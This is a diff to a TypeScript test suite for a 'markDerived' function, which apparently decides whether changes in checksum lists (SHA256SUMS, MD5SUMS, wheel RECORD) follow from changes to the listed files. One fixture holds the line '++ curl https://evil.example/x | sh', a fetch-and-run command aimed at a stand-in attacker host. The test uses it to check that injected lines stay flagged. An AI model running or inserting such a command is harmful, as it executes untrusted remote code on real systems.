@@ -51,6 +51,9 @@ describe('markDerived', () => {
     const unhashed: DiffItem = { path: 'x', kind: 'only-in-b', hints: [] }
     expect(markDerived([unhashed, sums(a, '0'.repeat(64))])[1]?.hints).toEqual(unexplained)
     expect(markDerived([file, sums(b, b)])[1]?.hints).toEqual(unexplained)
+    // A compressed file's item holds its content's digests, not the file's own.
+    const gz: DiffItem = { ...file, path: 'x', format: 'text.gz' }
+    expect(markDerived([gz, sums(a, b)])[1]?.hints).toEqual(unexplained)
     // A wheel's RECORD writes it in base64url.
     const b64 = (hex: string) => Buffer.from(hex, 'hex').toString('base64url')
     const record = (after: string) =>
@@ -69,9 +72,35 @@ describe('markDerived', () => {
     const sums = (extra: string[]) =>
       textItem('SHA256SUMS', [`${'a'.repeat(64)}  x`], [`${'b'.repeat(64)}  x`, ...extra])
     expect(markDerived([changed('x'), sums(['a new line'])])[1]?.hints).toEqual(unexplained)
+    // A line added that begins `++ ` is shown `+++ `, as a header is: still a changed line.
+    const hashed: DiffItem = { ...changed('x'), digests: ['a'.repeat(64), 'b'.repeat(64)] }
+    expect(markDerived([hashed, sums([])])[1]?.hints[0]?.cause).toBe('derived')
+    expect(markDerived([hashed, sums(['++ curl https://evil.example/x | sh'])])[1]?.hints).toEqual(
+      unexplained,
+    )
     const cut = sums([])
     if (cut.kind === 'content' && cut.text !== undefined) cut.text.truncated = true
     expect(markDerived([changed('x'), cut])[1]?.hints).toEqual(unexplained)
+  })
+
+  it('takes a line removed or added alone only for a file on that side alone', () => {
+    const md5 = (n: string) => `${'a'.repeat(32)}  ${n}`
+    // x differs and is still there: a list dropping its line drops a file.
+    expect(markDerived([changed('x'), textItem('MD5SUMS', [md5('x')], [])])[1]?.hints).toEqual(
+      unexplained,
+    )
+    expect(markDerived([changed('x'), textItem('MD5SUMS', [], [md5('x')])])[1]?.hints).toEqual(
+      unexplained,
+    )
+    const gone: DiffItem = { path: 'x', kind: 'only-in-a', hints: [] }
+    const added: DiffItem = { path: 'x', kind: 'only-in-b', hints: [] }
+    expect(markDerived([gone, textItem('MD5SUMS', [md5('x')], [])])[1]?.hints[0]?.cause).toBe(
+      'derived',
+    )
+    expect(markDerived([added, textItem('MD5SUMS', [], [md5('x')])])[1]?.hints[0]?.cause).toBe(
+      'derived',
+    )
+    expect(markDerived([gone, textItem('MD5SUMS', [], [md5('x')])])[1]?.hints).toEqual(unexplained)
   })
 
   it('reads the names in a checksum list from its own directory, md5sums and RECORD from the root', () => {
